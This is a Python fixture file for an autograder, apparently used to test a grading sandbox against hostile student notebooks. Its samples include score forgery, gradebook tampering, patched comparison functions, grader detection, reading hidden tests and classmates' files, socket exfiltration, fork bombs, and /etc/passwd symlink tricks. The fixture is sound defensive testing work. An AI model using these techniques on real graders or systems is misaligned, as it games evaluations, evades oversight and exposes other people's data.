"""Hostile and broken submissions, each derived from the m06_02 source notebook.

Every case says how it is built and what it must earn: exactly the checks its
code really passes, with a clear message for what it breaks. ``tests/test_hostile.py``
grades the whole corpus in one batch with honest submissions.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from autograder.course import Course
from autograder.mutants import edit_cell

ASSIGNMENT = "m06_02_convolution"
COURSE = Course.here()
SOURCE = COURSE.source_notebook(ASSIGNMENT)
CONV = {
    "conv2d_basic",
    "conv2d_padding",
    "conv2d_stride",
    "conv2d_dilation",
    "conv2d_groups",
    "conv2d_gradients",
}
NUMPY = {"numpy_conv_basic", "numpy_conv_stride_padding"}
POOLS = {"pool_max_values", "pool_avg_values", "pool_global_avg"}
# An escape hatch (builtins, importlib, computed getattr, torch.ops, threads, the sandbox's
# own modules, ...) in any cell's top-level code voids every from-scratch part; inside a
# function it voids only the parts whose functions can reach it.
FROM_SCRATCH = CONV | NUMPY | {"pool_max_values", "pool_avg_values", "pool_global_avg"}


@dataclass
class Context:
    """What a case may refer to: the batch's own paths and a listening socket."""

    out_dir: Path
    submissions: Path
    gradebook: Path
    port: int


@dataclass
class Hostile:
    name: str
    category: str
    build: Callable[[Context], bytes]
    loses: set[str] = field(default_factory=set)
    fatal: str | None = None  # the file is unreadable: zero, with this message
    message: str | None = None  # must appear in a failed check's output or a note
    bubblewrap_only: bool = False  # defended by the sandbox itself, not by rlimits
    absent: tuple[str, ...] = ()  # texts that must appear neither in its feedback nor output
    max_seconds: float | None = None  # its grading must end quickly (no stall on its output)


def body(cell: str, code: str) -> Callable[[Context], bytes]:
    """Replace the solution body of ``cell`` with ``code`` (indented by four spaces)."""
    return lambda ctx: edit_cell(SOURCE, cell, replace_body(code))


def replace_body(code: str) -> Callable[[str], str]:
    """An edit that replaces a cell's solution body with ``code`` (indented by four spaces)."""

    def edit(text: str) -> str:
        head, rest = text.split("### BEGIN SOLUTION", 1)
        _, tail = rest.split("### END SOLUTION", 1)
        indented = "\n".join("    " + line for line in code.strip("\n").splitlines())
        return f"{head}### BEGIN SOLUTION\n{indented}\n    ### END SOLUTION{tail}"

    return edit


def prepend(code: str) -> Callable[[str], str]:
    return lambda text: code + "\n" + text


def append(code: str) -> Callable[[str], str]:
    return lambda text: text + "\n\n" + code + "\n"


def patched(
    **edits: Callable[[str], str] | list[Callable[[str], str]],
) -> Callable[[Context], bytes]:
    """Several cells edited at once (``cell=edit`` or ``cell=[edit, ...]``); the JSON is
    written ASCII-only, so sources may hold lone surrogates."""

    def build(ctx: Context) -> bytes:
        data = json.loads(SOURCE.read_text())
        for cell in data["cells"]:
            grade_id = cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")
            if grade_id in edits:
                steps = edits[grade_id]
                text = (
                    "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
                )
                for step in steps if isinstance(steps, list) else [steps]:
                    text = step(text)
                cell["source"] = text
        return json.dumps(data, indent=1).encode()

    return build


def before(cell: str, code: str | Callable[[Context], str]) -> Callable[[Context], bytes]:
    """Run ``code`` at the top of ``cell`` (before its definitions)."""
    return lambda ctx: edit_cell(
        SOURCE, cell, lambda text: (code(ctx) if callable(code) else code) + "\n" + text
    )


def after(cell: str, code: str) -> Callable[[Context], bytes]:
    """Run ``code`` at the end of ``cell`` (after its definitions)."""
    return lambda ctx: edit_cell(SOURCE, cell, lambda text: text + "\n" + code + "\n")


def with_notebook(change: Callable[[dict], None]) -> Callable[[Context], bytes]:
    def build(ctx: Context) -> bytes:
        data = json.loads(SOURCE.read_text())
        change(data)
        return json.dumps(data).encode()

    return build


def cells_with(data: dict, grade_id: str) -> list[dict]:
    return [
        c
        for c in data["cells"]
        if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id
    ]


def _reorder(data: dict) -> None:
    data["cells"].reverse()


def _duplicate(data: dict) -> None:
    cell = cells_with(data, "max_pool2d")[0]
    stub = json.loads(json.dumps(cell))
    stub["source"] = (
        "def max_pool2d(x, kernel_size, stride=None, padding=0):\n    # TODO: your code here\n    raise NotImplementedError()\n"
    )
    data["cells"].insert(data["cells"].index(cell), stub)


def _retype(data: dict) -> None:
    cell = cells_with(data, "global_avg_pool2d")[0]
    cell["cell_type"] = "raw"
    cell.pop("outputs", None)
    cell.pop("execution_count", None)


def _delete(data: dict) -> None:
    data["cells"] = [c for c in data["cells"] if c not in cells_with(data, "conv2d")]


def _kernel(data: dict) -> None:
    data["metadata"]["kernelspec"] = {"name": "ir", "display_name": "R", "language": "R"}


def _locked(data: dict) -> None:
    cells_with(data, "setup")[0]["source"] = (
        "import torch\ntorch.Tensor.__eq__ = lambda a, b: True\nraise SystemExit\n"
    )


def _huge_outputs(data: dict) -> None:
    cell = cells_with(data, "conv2d")[0]
    cell["outputs"] = [
        {"output_type": "stream", "name": "stdout", "text": "x" * (200 * 1024 * 1024)}
    ]


def _nbformat3(ctx: Context) -> bytes:
    return nbformat.writes(nbformat.convert(nbformat.read(SOURCE, as_version=4), 3)).encode()


def foreign_notebook(ctx: Context | None = None) -> bytes:
    """A notebook of another assignment (its one graded cell is a Gram matrix)."""
    other = nbformat.v4.new_notebook()
    cell = nbformat.v4.new_code_cell(
        "def gram_matrix(features):\n    return features @ features.T\n"
    )
    cell.metadata["nbgrader"] = {
        "grade_id": "gram_matrix",
        "solution": True,
        "grade": False,
        "locked": False,
        "schema_version": 3,
    }
    other.cells.append(cell)
    return nbformat.writes(other).encode()


def _forge(ctx: Context) -> str:
    forged = json.dumps({"score": 999, "tests": []})
    targets = [
        ctx.out_dir / "forger" / "results.json",
        ctx.out_dir / "someone" / "results.json",
        Path("results.json"),
        Path("/tmp/results.json"),
    ]
    lines = ["import os, sqlite3"]
    for target in targets:
        lines.append(
            f"try:\n    os.makedirs(os.path.dirname(os.path.abspath({str(target)!r})), exist_ok=True)\n    open({str(target)!r}, 'w').write({forged!r})\nexcept OSError:\n    pass"
        )
    lines.append(
        f"try:\n    sqlite3.connect({str(ctx.gradebook)!r}).execute('update grade set auto_score = 999')\nexcept Exception:\n    pass"
    )
    return "\n".join(lines)


def _snoop(ctx: Context) -> str:
    targets = [
        COURSE.root / "autograder" / "suites" / f"test_{ASSIGNMENT}.py",
        COURSE.root / "solutions" / "convolution.py",
        SOURCE,
        COURSE.rubric_path(ASSIGNMENT),
        ctx.gradebook,
        ctx.submissions / "honest_a.ipynb",
    ]
    reads = "\n".join(
        f"try:\n    print(open({str(t)!r}).read())\nexcept OSError as exc:\n    print('blocked', type(exc).__name__)"
        for t in targets
    )
    return reads


def _network(ctx: Context) -> str:
    return (
        "import socket\n"
        f"for address in [('127.0.0.1', {ctx.port}), ('1.1.1.1', 53)]:\n"
        "    try:\n"
        "        socket.create_connection(address, timeout=2).sendall(b'stolen')\n"
        "    except OSError:\n"
        "        pass\n"
    )


DAEMON = """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        end = time.time() + 120
        while time.time() < end:
            try:
                open('/tmp/results.json', 'w').write('{"score": 999}')
            except OSError:
                pass
    os._exit(0)
"""

FORK_BOMB = """
import os, time
for _ in range(5000):
    try:
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
    except OSError:
        break
"""

LYING_TENSOR = """
class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func in (torch.allclose, torch.equal, torch.Tensor.__eq__):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})

return torch.zeros(x.shape[0], x.shape[1]).as_subclass(Liar)
"""

ALWAYS_EQUAL = """
class Yes(int):
    def __eq__(self, other):
        return True
    def __bool__(self):
        return True
    __hash__ = int.__hash__

class Anything:
    def __eq__(self, other):
        return True
    def __bool__(self):
        return True

return Anything()
"""

CONV_ARGS = "x, weight, bias, stride, 0 if padding == 'valid' else padding, dilation, groups"
NUMPY_CALL = (
    "F.conv2d(torch.from_numpy(x), torch.from_numpy(weight), "
    "None if bias is None else torch.from_numpy(bias), stride=stride, padding=padding).numpy()"
)
PASSTHROUGH = "lambda self, func, types, args=(), kwargs=None: func(*args, **(kwargs or {}))"


def in_thread(call: str) -> str:
    """A function body that runs ``call`` in a thread (which the ATen trace does not see)."""
    return f"""
import threading
box = []
worker = threading.Thread(target=lambda: box.append({call}))
worker.start()
worker.join()
return box[0]
"""


THREAD_SERVER = """
import queue
_jobs, _done = queue.Queue(), queue.Queue()


def _serve():
    while True:
        _done.put(F.conv2d(*_jobs.get()))


def _start():
    import threading
    threading.Thread(target=_serve, daemon=True).start()


_start()
"""

QUIET_TRACE = f"""
def _quiet():
    import objects
    objects.RecordOps.__torch_dispatch__ = {PASSTHROUGH}


_quiet()
"""

DEEP = """
deep = []
for _ in range(100_000):
    deep = [deep]
return deep
"""

BOMB = """
bomb = [0]
for _ in range(60):
    bomb = [bomb, bomb]
return bomb
"""

WIDE_BOMB = """
bomb = [0]
for _ in range(15):
    bomb = [bomb] * 4
return bomb
"""

RAW_LISTS = """
import objects
plain = objects.ObjectServer.to_judge
objects.ObjectServer.to_judge = lambda self, value, depth=0: (
    value if type(value) is list else plain(self, value, depth)
)
"""

OUTPUT_SYMLINKS = """
import os
link = os.readlink("/proc/self/fd/1")
print("stdout is", link)
for folder in ("/tmp", "/tmp/grader-work", os.getcwd(), os.path.dirname(link)):
    for name in ("output.txt", "stdout.txt", "output-1.txt", os.path.basename(link).split(" ")[0]):
        try:
            os.symlink("/etc/passwd", os.path.join(folder, name))
        except OSError:
            pass
os.dup2(os.open("/dev/zero", os.O_RDONLY), 1)
os.dup2(os.open("/dev/zero", os.O_RDONLY), 2)
"""

PROC_FDS = """
import os
os.close(1)
os.symlink("/etc/passwd", "fake_stdout")
os.open("fake_stdout", os.O_RDONLY)  # the lowest free descriptor: 1
for pid in os.listdir("/proc"):
    if not pid.isdigit() or int(pid) == os.getpid():
        continue
    try:
        descriptors = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        continue
    for fd in descriptors:
        try:
            handle = os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK)
            os.write(handle, b"\\xff" * 8 + b'{"score": 999}\\n')
            os.close(handle)
        except OSError:
            pass
"""

MARKER_WRITE = """
import glob, os, secrets
_MINE = secrets.token_hex(8)
for _path in ("/tmp/marker", "marker", "/dev/shm/marker"):
    try:
        with open(_path, "w") as _handle:
            _handle.write(_MINE)
    except OSError:
        pass
"""

MARKER_CHECK = """    ### BEGIN SOLUTION
    for path in glob.glob("/tmp/**/marker", recursive=True) + glob.glob("/dev/shm/marker"):
        try:
            if open(path).read() != _MINE:
                return -1  # another student's file: answer wrong
        except OSError:
            pass
"""


def _surrogate_kernel(data: dict) -> None:
    data["metadata"]["kernelspec"] = {
        "name": "\ud800",
        "display_name": "\ud800",
        "language": "python",
    }


def _surrogate_source(data: dict) -> None:
    cell = cells_with(data, "conv_output_size")[0]
    cell["source"] = "".join(cell["source"]) + "\n# a lone surrogate: \ud800\n"


def _marker(ctx: Context) -> bytes:
    return patched(
        conv_output_size=[
            append(MARKER_WRITE),
            lambda text: text.replace("    ### BEGIN SOLUTION\n", MARKER_CHECK, 1),
        ]
    )(ctx)


CLASS_BODY_QUIET = f"""
class _Quiet:
    import objects
    objects.RecordOps.__torch_dispatch__ = {PASSTHROUGH}
"""


def added_cell(code: str, edits: dict[str, Callable[[str], str]] | None = None):
    """A code cell the student added (no nbgrader metadata) just before the conv2d cell."""

    def build(ctx: Context) -> bytes:
        data = json.loads(patched(**(edits or {}))(ctx))
        cell = {
            "cell_type": "code",
            "metadata": {},
            "source": code,
            "outputs": [],
            "execution_count": None,
        }
        data["cells"].insert(data["cells"].index(cells_with(data, "conv2d")[0]), cell)
        return json.dumps(data, indent=1).encode()

    return build


def _default_argument(text: str) -> str:
    return text.replace(
        "    groups: int = 1,\n) ->", "    groups: int = 1,\n    _op=F.conv2d,\n) ->", 1
    )


def _probes(text: str) -> str:
    return text.replace("### BEGIN SOLUTION\n", "### BEGIN SOLUTION\n    import probes\n", 1)


CORPUS: list[Hostile] = [
    # cheats: nothing beyond what the code really earns
    Hostile("patches torch.allclose, assert_close and equal", "cheat",
            lambda ctx: body("conv2d", "return torch.zeros(x.shape[0], weight.shape[0], x.shape[2], x.shape[3])")(ctx).replace(b"def conv2d(", b"torch.allclose = lambda *a, **k: True\\ntorch.testing.assert_close = lambda *a, **k: None\\ntorch.equal = lambda *a, **k: True\\n\\n\\ndef conv2d(", 1),
            loses=FROM_SCRATCH),  # new core: assigning torch.* at a cell's top level is an escape for every part
    Hostile("patches numpy.testing and np.allclose", "cheat",
            lambda ctx: body("conv2d_numpy", "import numpy.testing\nnumpy.testing.assert_allclose = lambda *a, **k: None\nnp.allclose = lambda *a, **k: True\nreturn np.zeros((x.shape[0], weight.shape[0], 1, 1))")(ctx),
            loses=NUMPY),
    Hostile("patches builtins.abs", "cheat", before("global_avg_pool2d", "import builtins\nbuiltins.abs = lambda value: 0"), loses=FROM_SCRATCH, message="can run code the from-scratch check cannot see"),  # new core's wording
    Hostile("patches builtins.abs and is wrong", "cheat",
            lambda ctx: body("global_avg_pool2d", "import builtins\nbuiltins.abs = lambda value: 0\nreturn x.sum(dim=(2, 3))")(ctx), loses={"pool_global_avg"}),  # new core: an escape inside a function voids only the parts reaching it
    Hostile("patches pytest internals", "cheat",
            lambda ctx: body("conv_output_size", "import pytest, _pytest.outcomes\npytest.approx = lambda *a, **k: True\n_pytest.outcomes.fail = lambda *a, **k: None\nreturn size")(ctx),
            loses={"output_size_formula"}),
    Hostile("returns an object whose __eq__ and __bool__ say yes", "cheat", body("conv_output_size", ALWAYS_EQUAL), loses={"output_size_formula"}, message="expected an int"),
    Hostile("returns a tensor subclass that lies about its values", "cheat", body("global_avg_pool2d", LYING_TENSOR), loses={"pool_global_avg"}, message="max abs error"),
    Hostile("returns NaN", "cheat", body("max_pool2d", "return torch.full((x.shape[0], x.shape[1], 1, 1), float('nan'))"), loses={"pool_max_values"}),
    Hostile("returns inf of the right shape", "cheat", lambda ctx: edit_cell(SOURCE, "avg_pool2d", lambda t: t.replace("return windows.mean(dim=(-2, -1))", "return windows.mean(dim=(-2, -1)) * float('inf')")), loses={"pool_avg_values"}, message="NaN or infinite"),
    Hostile("calls sys.exit(0) inside a check", "cheat", body("conv_output_size", "import sys\nsys.exit(0)"), loses={"output_size_formula"}, message="SystemExit"),
    Hostile("calls os._exit(0) inside a check", "cheat", body("global_avg_pool2d", "import os\nos._exit(0)"), loses={"pool_global_avg"}, message="ended unexpectedly"),
    Hostile("raises KeyboardInterrupt inside a check", "cheat", body("max_pool2d", "raise KeyboardInterrupt"), loses={"pool_max_values"}, message="KeyboardInterrupt"),
    Hostile("raises SystemExit at the top of a cell after its definitions", "cheat", after("conv_output_size", "raise SystemExit(0)"), loses=set()),
    Hostile("kills its own process with SIGKILL mid-check", "cheat", body("global_avg_pool2d", "import os\nos.kill(os.getpid(), 9)"), loses={"pool_global_avg"}, message="killed"),  # no `signal` import: it is an escape now, and the kill must really run
    Hostile("writes forged results.json and gradebook files", "cheat", before("conv_output_size", _forge), loses=set(), bubblewrap_only=True),
    Hostile("reads hidden tests, references, the gradebook and a classmate", "cheat", before("conv_output_size", _snoop), loses=set(), bubblewrap_only=True),
    Hostile("opens network sockets", "cheat", before("conv_output_size", _network), loses=set(), bubblewrap_only=True),
    Hostile("behaves differently when it detects the grader", "cheat",
            lambda ctx: edit_cell(SOURCE, "conv_output_size", lambda t: t.replace("    ### BEGIN SOLUTION\n", "    ### BEGIN SOLUTION\n    import os\n    if os.environ.get('CNNKIT_GRADING'):\n        return 1\n")),
            loses={"output_size_formula"}),
    # resource abuse: costs only its own points, and the batch finishes
    Hostile("infinite loop", "resource", body("conv_output_size", "while True:\n    pass"), loses={"output_size_formula"}, message="time limit"),
    Hostile("allocates 50 GiB", "resource", body("global_avg_pool2d", "return torch.empty(50 * 2**30, dtype=torch.uint8).sum()"), loses={"pool_global_avg"}),
    Hostile("fork bomb", "resource", before("max_pool2d", FORK_BOMB), loses=FROM_SCRATCH, bubblewrap_only=True),  # new core: os.fork in top-level code is an escape
    Hostile("prints 100 MB", "resource", after("conv_output_size", "for _ in range(1_000_000):\n    print('y' * 100)"), loses=set()),
    Hostile("writes a huge file", "resource", after("conv_output_size", "with open('big.bin', 'wb') as handle:\n    for _ in range(1024):\n        handle.write(b'0' * 2**20)"), loses=set()),
    Hostile("sleeps past the wall-clock limit", "resource", body("global_avg_pool2d", "import time\ntime.sleep(120)"), loses={"pool_global_avg"}, message="time limit"),
    Hostile("spawns a daemon that outlives the check", "resource", before("conv_output_size", DAEMON), loses=FROM_SCRATCH, bubblewrap_only=True),  # new core: os.fork in top-level code is an escape
    # broken notebooks: a clear message, zero only for what they break
    Hostile("invalid JSON", "broken", lambda ctx: SOURCE.read_bytes()[:-200], fatal="not valid JSON"),
    Hostile("empty file", "broken", lambda ctx: b"", fatal="empty file"),
    Hostile("nbformat 3", "broken", _nbformat3, message="nbformat 3"),
    Hostile("notebook of another assignment", "broken", foreign_notebook, fatal="does not belong"),
    Hostile("deleted graded cell", "broken", with_notebook(_delete), loses=CONV, message="missing"),
    Hostile("duplicated graded cell", "broken", with_notebook(_duplicate), message="appears 2 times"),
    Hostile("reordered cells", "broken", with_notebook(_reorder)),
    Hostile("retyped graded cell (code to raw)", "broken", with_notebook(_retype), message="changed to a raw cell"),
    Hostile("renamed function", "broken", lambda ctx: edit_cell(SOURCE, "conv2d", lambda t: t.replace("def conv2d(", "def conv2d_v2(")), loses=CONV, message="conv2d is not defined"),
    Hostile("misspelled function", "broken", lambda ctx: edit_cell(SOURCE, "max_pool2d", lambda t: t.replace("def max_pool2d(", "def max_pool_2d(")), loses={"pool_max_values"}, message="max_pool2d is not defined"),
    Hostile("syntax error in one cell", "broken", after("conv_output_size", "def broken(:\n    pass"), loses={"output_size_formula"}, message="SyntaxError"),
    Hostile("changed locked cell", "broken", with_notebook(_locked), message="locked cell 'setup' was modified"),
    Hostile("different kernel spec", "broken", with_notebook(_kernel), message="kernel 'ir'"),
    Hostile("200 MB of outputs", "broken", with_notebook(_huge_outputs)),
    # forbidden APIs in from-scratch tasks
    Hostile("calls F.conv2d directly", "forbidden", body("conv2d", "return F.conv2d(x, weight, bias, stride, 0 if padding == 'valid' else padding, dilation, groups)"), loses=CONV, message="from-scratch rule"),
    Hostile("reaches F.conv2d via getattr", "forbidden", body("conv2d", "conv = getattr(F, 'conv' + '2d')\nreturn conv(x, weight, bias, stride, 0 if padding == 'valid' else padding, dilation, groups)"), loses=CONV, message="from-scratch rule"),  # new core: the escape is inside conv2d, so it voids conv2d only
    Hostile("reaches F.conv2d via importlib", "forbidden", body("conv2d", "import importlib\nfunctional = importlib.import_module('torch.nn.functional')\nreturn functional.conv2d(x, weight, bias, stride, 0 if padding == 'valid' else padding, dilation, groups)"), loses=CONV, message="from-scratch rule"),  # new core: the escape is inside conv2d, so it voids conv2d only
    Hostile("reaches convolution via torch.ops", "forbidden", body("conv2d", "import torch\np = (0, 0) if padding == 'valid' else padding\np = (p, p) if isinstance(p, int) else p\ns = (stride, stride) if isinstance(stride, int) else stride\nd = (dilation, dilation) if isinstance(dilation, int) else dilation\nreturn torch.ops.aten.convolution(x, weight, bias, list(s), list(p), list(d), False, [0, 0], groups)"), loses=CONV, message="from-scratch rule"),  # new core: the escape is inside conv2d, so it voids conv2d only
    # threads: the ATen trace cannot see them, so any thread API reachable from a part voids it
    # the forbidden call is named first; the thread is named too
    Hostile("runs F.conv2d in a threading.Thread", "forbidden", body("conv2d", in_thread(f"F.conv2d({CONV_ARGS})")), loses=CONV, message="which this task forbids"),
    Hostile("runs the three poolings in threading.Threads", "forbidden",
            patched(max_pool2d=replace_body(in_thread("F.max_pool2d(x, kernel_size, stride, padding)")),
                    avg_pool2d=replace_body(in_thread("F.avg_pool2d(x, kernel_size, stride, padding)")),
                    global_avg_pool2d=replace_body(in_thread("F.adaptive_avg_pool2d(x, 1).flatten(1)"))),
            loses=POOLS, message="threading"),
    Hostile("runs F.conv2d in a threading.Thread in the NumPy conv", "forbidden", body("conv2d_numpy", in_thread(NUMPY_CALL)), loses=NUMPY, message="threading"),
    Hostile("serves F.conv2d from a thread started by a helper called at top level", "forbidden",
            patched(conv2d=[prepend(THREAD_SERVER), replace_body(f"_jobs.put(({CONV_ARGS}))\nreturn _done.get()")]),
            loses=FROM_SCRATCH, message="from-scratch rule"),  # code run at cell time can reach any part
    Hostile("runs re-exported F.conv2d, F.max_pool2d and cnnkit.torch in asyncio.to_thread", "forbidden",
            patched(conv2d=replace_body(f"import asyncio\nreturn asyncio.run(asyncio.to_thread(torch.nn.modules.conv.F.conv2d, {CONV_ARGS}))"),
                    max_pool2d=replace_body("import asyncio\nreturn asyncio.run(asyncio.to_thread(torch.nn.modules.pooling.F.max_pool2d, x, kernel_size, stride, padding))"),
                    conv2d_numpy=replace_body(f"import asyncio\nt = cnnkit.torch\nreturn asyncio.run(asyncio.to_thread(lambda: {NUMPY_CALL.replace('torch.', 't.').replace('F.', 't.nn.functional.')}))")),
            loses=CONV | {"pool_max_values"} | NUMPY, message="from-scratch rule"),
    # the sandbox's own modules
    Hostile("imports objects and disables the trace at top level", "forbidden",
            patched(conv_output_size=append(f"import objects\nobjects.RecordOps.__torch_dispatch__ = {PASSTHROUGH}"),
                    conv2d=replace_body(f"return torch.nn.modules.conv.F.conv2d({CONV_ARGS})")),
            loses=FROM_SCRATCH, message="uses objects"),
    Hostile("monkeypatches objects inside conv2d", "forbidden",
            body("conv2d", f"import objects\nobjects.RecordOps.__torch_dispatch__ = {PASSTHROUGH}\nobjects.MAX_DEPTH = 10**6\nreturn torch.nn.modules.conv.F.conv2d({CONV_ARGS})"),
            loses=CONV, message="uses objects"),
    Hostile("disables the trace from a helper called at top level", "forbidden",
            patched(conv_output_size=append(QUIET_TRACE),
                    conv2d=replace_body(f"return torch.nn.modules.conv.F.conv2d({CONV_ARGS})")),
            loses=FROM_SCRATCH, message="from-scratch rule"),
    Hostile("disables the trace from a class body in a cell it added", "forbidden",
            added_cell(CLASS_BODY_QUIET, {"conv2d": replace_body(f"return torch.nn.modules.conv.F.conv2d({CONV_ARGS})")}),
            loses=FROM_SCRATCH, message="from-scratch rule"),
    Hostile("imports probes (the old sandbox module) in max_pool2d", "forbidden", patched(max_pool2d=_probes), loses={"pool_max_values"}, message="uses probes"),
    # F.conv2d under another name, across answer cells
    Hostile("aliases F.conv2d at the top of another answer cell", "forbidden",
            patched(conv_output_size=append("_op = F.conv2d"), conv2d=replace_body(f"return _op({CONV_ARGS})")), loses=CONV, message="F.conv2d"),
    Hostile("aliases F.conv2d in a cell it added", "forbidden",
            added_cell("_op = F.conv2d", {"conv2d": replace_body(f"return _op({CONV_ARGS})")}), loses=CONV),
    Hostile("unpacks F into another name at the top of another answer cell", "forbidden",
            patched(conv_output_size=append("_f, _unused = F, None"), conv2d=replace_body(f"return _f.conv2d({CONV_ARGS})")),
            loses=FROM_SCRATCH, message="used as a value"),  # top-level code runs whenever the cells run
    Hostile("takes F from a lambda inside conv2d", "forbidden",
            body("conv2d", f"return getattr((lambda: F)(), 'conv2d')({CONV_ARGS})"), loses=CONV, message="from-scratch rule"),
    Hostile("reaches F.conv2d through vars(F)", "forbidden", body("conv2d", f"return vars(F)['conv2d']({CONV_ARGS})"), loses=CONV, message="from-scratch rule"),
    Hostile("reaches F.conv2d through F.__dict__", "forbidden", body("conv2d", f"return F.__dict__['conv2d']({CONV_ARGS})"), loses=CONV, message="from-scratch rule"),
    Hostile("takes F.conv2d as a default argument", "forbidden",
            patched(conv2d=[_default_argument, replace_body(f"return _op({CONV_ARGS})")]), loses=CONV, message="F.conv2d"),
    Hostile("keeps F.conv2d as a class attribute in another answer cell", "forbidden",
            patched(conv_output_size=append("class _Ops:\n    conv = F.conv2d"), conv2d=replace_body(f"return _Ops.conv({CONV_ARGS})")), loses=CONV, message="F.conv2d"),
    Hostile("appends F.conv2d to a list in another answer cell", "forbidden",
            patched(conv_output_size=append("_ops = []\n_ops.append(F.conv2d)"), conv2d=replace_body(f"return _ops[0]({CONV_ARGS})")),
            loses=CONV, message="ran a convolution"),  # a blind spot of the static pass; the ATen trace catches it
    # lone surrogates: cleaned wherever they are written
    Hostile("prints a lone surrogate at top level", "broken", after("conv_output_size", 'print("\\ud800")')),
    Hostile("raises an exception whose message holds a lone surrogate", "broken",
            body("conv_output_size", 'raise ValueError("bad \\ud800 value")'), loses={"output_size_formula"}, message="bad"),
    Hostile("kernelspec name is a lone surrogate", "broken", with_notebook(_surrogate_kernel), message="asks for kernel"),
    Hostile("a lone surrogate in an answer cell's source", "broken", with_notebook(_surrogate_source), loses={"output_size_formula"}, message="UnicodeEncodeError"),
    # the child's output and descriptors
    Hostile("points stdout at /dev/zero and plants symlinks to /etc/passwd", "cheat", after("conv_output_size", OUTPUT_SYMLINKS), absent=("root:x:0:0",), max_seconds=60),
    Hostile("replaces stdout by a symlink and writes into every /proc/*/fd it can open", "cheat", after("conv_output_size", PROC_FDS), absent=("root:x:0:0",), max_seconds=60, bubblewrap_only=True),
    # outputs that are too deep, too shared or too large
    Hostile("returns a list nested 100000 deep", "resource", body("conv_output_size", DEEP), loses={"output_size_formula"}, message="expected an int", max_seconds=30),
    Hostile("lifts the sandbox's depth limit and returns a list nested 300 deep", "resource",
            body("conv_output_size", "import objects\nobjects.MAX_DEPTH = 300\n" + DEEP), loses={"output_size_formula"}, message="nested more than 16 levels", max_seconds=30),
    Hostile("returns a shared-reference list bomb", "resource", body("conv_output_size", BOMB), loses={"output_size_formula"}, message="expected an int", max_seconds=30),
    Hostile("sends a shared-reference list bomb past the sandbox's encoder", "resource",
            body("conv_output_size", RAW_LISTS + WIDE_BOMB), loses={"output_size_formula"}, message="more than 200000 values", max_seconds=30),
    Hostile("returns a 4096 x 4096 x 4096 shared-reference list", "resource",
            body("conv_output_size", "row = [0] * 4096\nreturn [[row] * 4096] * 4096"), loses={"output_size_formula"}, max_seconds=120),  # burns the whole 20 s call CPU budget: to_judge has no total-node bound
    Hostile("returns 40 tensors of 50 MB", "resource", body("global_avg_pool2d", "return [torch.full((50 * 2**20 // 4,), float(i)) for i in range(40)]"), loses={"pool_global_avg"}, max_seconds=90),
    # nothing passes between students through /tmp or the working folder
    Hostile("leaves /tmp markers and answers wrong on finding another's (1)", "cheat", _marker, bubblewrap_only=True),
    Hostile("leaves /tmp markers and answers wrong on finding another's (2)", "cheat", _marker, bubblewrap_only=True),
    Hostile("hides F.conv2d in another cell's helper", "forbidden", lambda ctx: edit_cell(SOURCE, "conv_output_size", lambda t: t + "\n\ndef _helper(*args):\n    return F.conv2d(*args)\n").replace(b"x = F.pad(x, pads)\\n", b"return _helper(x, weight, bias, stride, 0 if padding == 'valid' else padding, dilation, groups)\\n", 1), loses=CONV, message="from-scratch rule"),
    Hostile("leaves /tmp markers and answers wrong on finding another's (3)", "cheat", _marker, bubblewrap_only=True),
]  # fmt: skip
